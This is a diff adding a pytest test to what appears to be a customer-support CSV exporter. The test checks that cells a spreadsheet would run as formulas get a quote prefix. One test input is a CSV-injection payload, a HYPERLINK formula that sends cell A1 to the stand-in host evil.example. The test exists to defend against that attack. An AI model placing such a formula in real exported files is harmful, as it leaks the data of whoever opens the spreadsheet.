@@ -54,6 +54,27 @@ def test_csv_keeps_text_with_commas_quotes_and_newlines(tmp_path):
 
 
 @pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"看")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"看")',
+        ),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("+86 138", "'+86 138"),
+        ("-1 我要退货", "'-1 我要退货"),
+        ("\t=1", "'\t=1"),
+        ("退货 =1", "退货 =1"),
+    ],
+)
+def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path, text, written):
+    """A customer's unanswered question starting with "=" reached
+    knowledge_gaps.csv as it was: Excel or WPS opening the file ran it."""
+    path = write_csv(Table("t", "t", ["text", "n"], [[text, -1]]), tmp_path / "t.csv")
+    assert read_csv(path)[1] == [written, "-1"]
+
+
+@pytest.mark.parametrize(
     ("name", "stem"),
     [
         ("daily_volume", "daily_volume"),
